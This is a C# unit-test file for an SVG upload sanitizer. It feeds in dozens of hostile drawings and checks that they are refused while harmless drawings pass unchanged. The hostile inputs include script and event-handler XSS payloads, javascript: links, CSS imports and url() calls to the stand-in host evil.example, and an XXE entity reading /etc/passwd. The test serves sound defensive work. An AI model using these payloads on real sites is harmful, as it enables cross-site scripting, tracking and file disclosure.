using System.Text;
using System.Xml;
using System.Xml.Linq;
using Integreat.Platform.Gateway.Media.Upload;

namespace Integreat.Platform.Tests.Gateway;

/// <summary>Drawings that may do more than draw are not taken.</summary>
public sealed class SvgDrawingTests
{
    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<script xlink:href='https://evil.example/x.js'/>")]
    [InlineData("<SCRIPT>alert(1)</SCRIPT>")]
    [InlineData("<g><g><script/></g></g>")]
    [InlineData("<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>")]
    [InlineData("<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>")]
    [InlineData("<path onclick='alert(1)'/>")]
    [InlineData("<path ONLOAD='alert(1)'/>")]
    [InlineData("<image href='x' onerror='alert(1)'/>")]
    [InlineData("<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><iframe src='javascript:alert(1)'/></body></foreignObject>")]
    [InlineData("<a xlink:href='javascript:alert(1)'><text>x</text></a>")]
    [InlineData("<a href='https://evil.example'><text>x</text></a>")]
    [InlineData("<use xlink:href='https://evil.example/a.svg#x'/>")]
    [InlineData("<use href='data:image/svg+xml;base64,PHN2Zz4=#x'/>")]
    [InlineData("<image xlink:href='https://evil.example/pixel.png'/>")]
    [InlineData("<image href='data:image/svg+xml,&lt;svg onload=alert(1)>'/>")]
    [InlineData("<image href='//evil.example/pixel.png'/>")]
    [InlineData("<set attributeName='onmouseover' to='alert(1)'/>")]
    [InlineData("<animate attributeName='href' values='javascript:alert(1)'/>")]
    [InlineData("<handler type='text/javascript'>alert(1)</handler>")]
    [InlineData("<iframe src='https://evil.example'/>")]
    [InlineData("<style>@import url(https://evil.example/x.css);</style>")]
    [InlineData("<style>path{fill:url(https://evil.example/x.svg#a)}</style>")]
    [InlineData("<style>path{background:url( \"//evil.example\" )}</style>")]
    [InlineData("<style>@im\\70 ort 'https://evil.example';</style>")]
    [InlineData("<style>@im/**/port 'https://evil.example';</style>")]
    [InlineData("<style>@font-face{src:url(https://evil.example/font)}</style>")]
    [InlineData("<path style='fill:url(https://evil.example/#a)'/>")]
    [InlineData("<path style='behavior:url(#x)'/>")]
    [InlineData("<path style='width:expression(alert(1))'/>")]
    [InlineData("<path fill='url(https://evil.example/a#b)'/>")]
    [InlineData("<path filter=\"url('https://evil.example/a#b')\"/>")]
    [InlineData("<g xml:base='https://evil.example/'><use href='#a'/></g>")]
    [InlineData("<?xml-stylesheet href='https://evil.example/x.css'?>")]
    [InlineData("<unknown/>")]
    public void A_drawing_that_may_do_more_than_draw_is_refused(string inside) => Assert.Null(Clean(Encoding.UTF8.GetString(Pictures.Svg(inside))));

    [Theory]
    [InlineData("<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>")]
    [InlineData("<!DOCTYPE svg [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&b;</text></svg>")]
    [InlineData("<!DOCTYPE svg [<!ENTITY x '<script>alert(1)</script>'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>")]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg'><path d='M0")]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg' onload=alert(1)/>")]
    public void Entities_and_what_is_not_whole_are_refused(string drawing) => Assert.Throws<XmlException>(() => Clean(drawing));

    [Theory]
    [InlineData("<?xml-stylesheet href='x.css'?><svg xmlns='http://www.w3.org/2000/svg'/>")]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")]
    [InlineData("<g xmlns='http://www.w3.org/2000/svg'/>")]
    public void What_stands_around_the_drawing_is_looked_at_as_well(string drawing) => Assert.Null(Clean(drawing));

    [Fact]
    public void A_drawing_deeper_than_anybody_draws_is_refused() =>
        Assert.Null(Clean(Encoding.UTF8.GetString(Pictures.Svg(string.Concat(Enumerable.Repeat("<g>", 100_000)) + string.Concat(Enumerable.Repeat("</g>", 100_000))))));

    [Theory]
    [InlineData("<path d='M0 0h1v1z' fill='#f00' stroke='none' transform='scale(2)'/>")]
    [InlineData("<defs><linearGradient id='a'><stop offset='0' stop-color='red'/></linearGradient></defs><path fill='url(#a)'/>")]
    [InlineData("<defs><path id='a'/></defs><use xlink:href='#a'/>")]
    [InlineData("<style>.a{fill:#fff;clip-path:url(#b)}</style><g class='a' style='opacity:.5'/>")]
    [InlineData("<image href='data:image/png;base64,iVBORw0KGgo=' width='1'/>")]
    [InlineData("<text x='1' font-family='Noto Sans'>Grüße مرحبا &amp; &lt;b&gt;</text>")]
    [InlineData("<title>Online-Karte</title><desc>on and on</desc><filter id='f'><feGaussianBlur stdDeviation='1'/></filter>")]
    public void A_drawing_that_only_draws_is_taken(string inside)
    {
        var clean = Clean(Encoding.UTF8.GetString(Pictures.Svg(inside)));

        Assert.NotNull(clean);
        Assert.Equal(Normal(Encoding.UTF8.GetString(Pictures.Svg(inside))), Normal(clean));
        Assert.Equal(clean, Clean(clean)); // what came out goes in again
    }

    [Fact]
    public void What_programs_and_authors_write_for_themselves_is_left_out()
    {
        var clean = Clean($"""
            <?xml version="1.0" encoding="UTF-8"?>
            <!-- Created by {Pictures.Secret} -->
            <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
                 xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" inkscape:export-filename="/home/{Pictures.Secret}/x.png">
              <sodipodi:namedview inkscape:window="{Pictures.Secret}"/>
              <metadata><x xmlns="http://example.org">{Pictures.Secret}</x></metadata>
              <path d="M0 0h1v1z" inkscape:label="{Pictures.Secret}"/>
            </svg>
            """);

        Assert.Contains("M0 0h1v1z", clean, StringComparison.Ordinal);
        Assert.DoesNotContain(Pictures.Secret, clean, StringComparison.Ordinal);
        Assert.DoesNotContain("DOCTYPE", clean, StringComparison.Ordinal);
        Assert.StartsWith("<svg", clean, StringComparison.Ordinal);
    }

    private static string? Clean(string drawing) =>
        SvgDrawing.Clean(new MemoryStream(Encoding.UTF8.GetBytes(drawing))) is { } clean ? Encoding.UTF8.GetString(clean) : null;

    /// <summary>What it draws, whatever its prefixes and quotes.</summary>
    private static string Normal(string drawing)
    {
        var root = XElement.Parse(drawing);
        foreach (var declaration in root.DescendantsAndSelf().Attributes().Where(attribute => attribute.IsNamespaceDeclaration).ToList())
        {
            declaration.Remove();
        }

        return root.ToString(SaveOptions.DisableFormatting);
    }
}
